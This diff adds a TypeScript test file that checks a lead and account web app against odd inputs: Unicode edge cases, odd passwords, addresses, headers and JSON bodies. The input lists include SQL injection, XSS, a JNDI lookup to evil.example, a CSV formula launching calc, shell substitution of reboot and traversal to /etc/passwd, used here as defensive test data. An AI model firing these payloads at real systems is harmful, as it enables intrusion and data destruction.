@@ -1,0 +1,274 @@
+import { describe, expect, test } from 'vitest';
+import { PASSWORD, RIGHT, world } from './bad-input-world.ts';
+
+/**
+ * What looks wrong and is right: nobody is turned away for how his name is written, or for what he
+ * has to say.
+ */
+const TEXTS: readonly (readonly [name: string, text: string])[] = [
+  ['Thai marks on each other', 'ก็็็็็่่่่่้้้้้๊๊๊๊๊'],
+  ['a Thai mark that begins', 'ำก่อน'],
+  ['Thai with SARA AM in two parts', 'นํ้า'],
+  ['marks without end', `Z${'\u0301\u0316\u0334'.repeat(30)}`],
+  ['emoji of many parts', '👩‍👩‍👧‍👦🏴‍☠️🇹🇭👍🏽1️⃣'],
+  ['a joiner alone', '\u200d'],
+  ['a zero-width space alone', '\u200b'],
+  ['zero-width characters', 'a\u200b\u200c\u200d\u2060b'],
+  ['a direction override', 'user\u202egnp.exe'],
+  ['isolates that do not end', '\u2066\u2067\u2068abc'],
+  ['Arabic and Hebrew', 'مرحبا שלום'],
+  ['letters that look like others', 'Аdа Кing'],
+  ['noncharacters', 'a\ufffe\uffff\u{10ffff}b'],
+  ['a private character', '\ue000\u{f0000}'],
+  ['a replacement character', 'a\ufffdb'],
+  ['a tag of the supplementary plane', 'a\u{e0041}b'],
+  ['line separators', 'a\u2028b\u2029c'],
+  ['SQL', `Robert'); drop table lead; --`],
+  ['SQL of another kind', `' or 1=1; select pg_sleep(10) --`],
+  ['HTML', '<script>alert("1")</script><img src=x onerror=alert(1)>'],
+  ['a template', '{{7*7}} #{7*7} <%= 7*7 %>'],
+  ['a lookup', '$' + '{jndi:ldap://evil.example/a}'],
+  ['a formula', '=cmd|"/c calc"!A1'],
+  ['a pattern of SQL', '100%_\\'],
+  ['a shell', '$(reboot) `reboot` ; reboot'],
+  ['a format', '%s%n%x%d'],
+  ['a path', '../../../../etc/passwd'],
+  ['the names of objects', '__proto__ constructor prototype'],
+  ['null as a word', 'null'],
+  ['undefined as a word', 'undefined'],
+  ['a number', '0x1e3'],
+  ['quotes', `"'\`´‘’“”`],
+  ['backslashes', '\\\\n\\0\\u0000'],
+];
+
+/** So many characters, none like the one before. */
+const many = (count: number) =>
+  Array.from({ length: count }, (_, index) => ((index * index * 7 + index) % 36).toString(36)).join(
+    '',
+  );
+const emoji = (count: number) =>
+  Array.from({ length: count }, (_, index) => String.fromCodePoint(0x1f400 + index)).join('');
+
+/** As it is stored (thai.md 9). */
+const stored = (text: string) => text.trim().normalize('NFC');
+
+describe('an odd text is kept as it was sent', { timeout: 30_000 }, () => {
+  test('in a lead, where it can be found again', async () => {
+    const { send, store, tokens } = await world();
+    const headers = { authorization: `Bearer ${tokens.admin}` };
+    for (const [index, [name, text]] of TEXTS.entries()) {
+      const message = `${text}\r\n\t${text}`;
+      const body = { ...RIGHT.sendLead.body, email: `odd${index}@b.example`, name: text, message };
+      expect([name, (await send('sendLead', { body })).statusCode]).toEqual([name, 201]);
+      const row = await store.db
+        .selectFrom('lead')
+        .select(['name', 'message'])
+        .where('email', '=', body.email)
+        .executeTakeFirstOrThrow();
+      expect([name, row]).toEqual([name, { name: stored(text), message: stored(message) }]);
+      const query = `state=all&search=${encodeURIComponent(text)}`;
+      const found = (await send('inbox', { headers, query })).json();
+      expect([name, found.leads?.map((lead: { email: string }) => lead.email)]).toEqual([
+        name,
+        expect.arrayContaining([body.email]),
+      ]);
+    }
+    expect((await send('inboxCsv', { headers, query: 'state=all' })).statusCode).toBe(200);
+  });
+
+  test('in an account', async () => {
+    const { send } = await world();
+    for (const [index, [name, text]] of TEXTS.entries()) {
+      const who = { email: `odd${index}@b.example`, password: PASSWORD };
+      const made = await send('signup', { body: { ...who, name: text } });
+      expect([name, made.statusCode]).toEqual([name, 200]);
+      const login = await send('login', { body: who });
+      expect([name, login.statusCode]).toEqual([name, 200]);
+      const { firstName, lastName, token } = login.json();
+      expect(`${firstName} ${lastName}`.trim()).toBe(stored(text).replace(/\s+/g, ' '));
+      const headers = { authorization: `Bearer ${token}` };
+      const changed = await send('changeDetails', { headers, body: { lastName: text } });
+      expect([name, changed.statusCode]).toEqual([name, 200]);
+      expect(changed.json().lastName).toBe(stored(text));
+    }
+  });
+});
+
+const PASSWORDS: readonly (readonly [name: string, password: string])[] = [
+  ['spaces around it', '  correct horse  '],
+  ['Thai', 'รหัสผ่านที่ดีมาก'],
+  ['marks in their decomposed form', 'cafe\u0301 tre\u0300s sucre\u0301'],
+  ['emoji', '🐎🔋📎🧵🪡🧶🐘🍚'],
+  ['the longest, in emoji', emoji(64)],
+  ['the longest', many(128)],
+  ['control characters', 'correct\u0007\thorse\n'],
+  ['zero-width characters', 'correct\u200bhorse\u200d'],
+  ['SQL', `' or '1'='1' --`],
+  ['a direction override', 'correct\u202ehorse'],
+];
+
+test('an odd password is a password', { timeout: 30_000 }, async () => {
+  const { send } = await world();
+  for (const [index, [name, password]] of PASSWORDS.entries()) {
+    const email = `odd${index}@b.example`;
+    const made = await send('signup', { body: { email, password, name: 'Odd' } });
+    expect([name, made.statusCode, made.body]).toEqual([name, 200, '']);
+    const login = await send('login', { body: { email, password } });
+    expect([name, login.statusCode]).toEqual([name, 200]);
+    const headers = { authorization: `Bearer ${login.json().token}` };
+    const body = { current: password, password: PASSWORD };
+    const there = await send('changePassword', { headers, body });
+    expect([name, there.statusCode]).toEqual([name, 200]);
+    const back = await send('changePassword', {
+      headers: { authorization: `Bearer ${there.json().token}` },
+      body: { current: PASSWORD, password },
+    });
+    expect([name, back.statusCode]).toEqual([name, 200]);
+    const again = await send('login', { body: { email, password } });
+    expect([name, again.statusCode]).toEqual([name, 200]);
+  }
+});
+
+const WRONG_PASSWORDS: readonly (readonly [name: string, password: string])[] = [
+  ['NUL', 'correct\0horse'],
+  ['a lone surrogate', 'correct\ud83dhorse'],
+  ['more than the right one', `${PASSWORD}\u0301`],
+  ['SQL', `' or '1'='1`],
+  ['64 emoji', '🐎'.repeat(64)],
+  ['control characters', '\u0001\u0002\u0003'],
+];
+
+test('a wrong password that is odd is just wrong', { timeout: 30_000 }, async () => {
+  const { send, contents } = await world();
+  const before = await contents();
+  for (const [name, password] of WRONG_PASSWORDS) {
+    for (const [call, body, message] of [
+      ['login', { email: 'customer@b.example', password }, 'Email or password is incorrect'],
+      ['login', { email: 'nobody@b.example', password }, 'Email or password is incorrect'],
+      ['startSecondFactor', { password }, 'The password is incorrect'],
+    ] as const) {
+      const answer = await send(call, { body });
+      const said = [name, call, answer.statusCode, answer.json().message];
+      expect(said).toEqual([name, call, 400, message]);
+    }
+  }
+  expect(await contents()).toEqual(before);
+});
+
+const ADDRESSES: readonly string[] = [
+  "o'hara@b.example",
+  'a+b@b.example',
+  'A_B-c@sub.b.example',
+  `${'a'.repeat(64)}@b.example`,
+  '  spaces@b.example  ',
+  'x@xn--o3cw4h.example',
+];
+
+test('an odd address is an address', async () => {
+  const { send, store } = await world();
+  for (const email of ADDRESSES) {
+    const answer = await send('sendLead', { body: { ...RIGHT.sendLead.body, email } });
+    expect([email, answer.statusCode]).toEqual([email, 201]);
+  }
+  const rows = await store.db
+    .selectFrom('lead')
+    .select('email')
+    .orderBy('id')
+    .offset(1)
+    .limit(99)
+    .execute();
+  expect(rows.map(({ email }) => email)).toEqual(
+    ADDRESSES.map((email) => email.trim().toLowerCase()),
+  );
+});
+
+const LANGUAGES: readonly (readonly [header: string, lang: string])[] = [
+  ['', 'en'],
+  ['*', 'en'],
+  ['th', 'th'],
+  ['TH-th;q=0.9, en', 'th'],
+  [';q=1', 'en'],
+  ['__proto__', 'en'],
+  [Buffer.from('ไทย').toString('latin1'), 'en'],
+  [','.repeat(8000), 'en'],
+  ['en;q=NaN,th', 'en'],
+  ['../th', 'en'],
+];
+
+test('an Accept-Language is taken for what can be made of it', async () => {
+  const { send, store } = await world();
+  for (const [index, [header, lang]] of LANGUAGES.entries()) {
+    const email = `odd${index}@b.example`;
+    const body = { email, password: PASSWORD, name: 'Odd' };
+    const answer = await send('signup', { body, headers: { 'accept-language': header } });
+    expect([header, answer.statusCode]).toEqual([header, 200]);
+    const row = await store.db
+      .selectFrom('user')
+      .select('lang')
+      .where('email', '=', email)
+      .executeTakeFirstOrThrow();
+    expect([header, row.lang]).toEqual([header, lang]);
+  }
+});
+
+const HEADERS: Readonly<Record<string, string>> = {
+  'user-agent': `Mozilla/5.0 ${Buffer.from('ไทย 😀'.repeat(500)).toString('latin1')}`,
+  'x-forwarded-for': 'x, 999.1.1.1, ::::',
+  forwarded: 'for="[::1]"; proto=x',
+  host: 'evil.example:99999',
+  origin: 'null',
+  referer: 'javascript:alert(1)',
+  cookie: 'session=%00; ; =; a',
+  accept: 'x'.repeat(8000),
+  'content-encoding': 'br',
+  range: 'bytes=-1',
+};
+
+test('strange headers keep nobody out', async () => {
+  const { send } = await world();
+  for (const [header, value] of Object.entries(HEADERS)) {
+    const login = await send('login', { headers: { [header]: value } });
+    expect([header, login.statusCode]).toEqual([header, 200]);
+  }
+});
+
+const BODIES: readonly (readonly [name: string, change: (json: string) => string])[] = [
+  ['a byte order mark', (json) => `\ufeff${json}`],
+  ['white space', (json) => `\r\n\t ${json} \n`],
+  ['escapes', (json) => json.replace('Hello', '\\u0048\\u0065llo')],
+  ['what no form has', (json) => json.replace('{', '{"role":"admin","id":7,"heldFor":"x",')],
+  ['names of the prototype', (json) => json.replace('{', '{"toString":1,"constructor":2,')],
+  ['the same twice', (json) => json.replace('{', '{"email":"nobody",')],
+];
+
+test('an odd body is read', async () => {
+  const { send, store } = await world();
+  for (const [index, [name, change]] of BODIES.entries()) {
+    const email = `odd${index}@b.example`;
+    const payload = change(JSON.stringify({ ...RIGHT.sendLead.body, email }));
+    expect([name, (await send('sendLead', { payload })).statusCode]).toEqual([name, 201]);
+    const row = await store.db
+      .selectFrom('lead')
+      .select(['message', 'heldFor'])
+      .where('email', '=', email)
+      .executeTakeFirstOrThrow();
+    expect([name, row]).toEqual([name, { message: 'Hello', heldFor: null }]);
+  }
+});
+
+test('bytes within a text that are no UTF-8 are marked, and the rest is kept', async () => {
+  const { send, store } = await world();
+  const [before, after] = JSON.stringify(RIGHT.sendLead.body).split('Hello') as [string, string];
+  const payload = Buffer.concat([
+    Buffer.from(`${before}Hello `),
+    Buffer.from([0xff, 0xc0, 0x80]),
+    Buffer.from(after),
+  ]);
+  expect((await send('sendLead', { payload })).statusCode).toBe(201);
+  const { message } = await store.db
+    .selectFrom('lead')
+    .select('message')
+    .orderBy('id', 'desc')
+    .executeTakeFirstOrThrow();
+  expect(message).toBe('Hello \ufffd\ufffd\ufffd');
+});
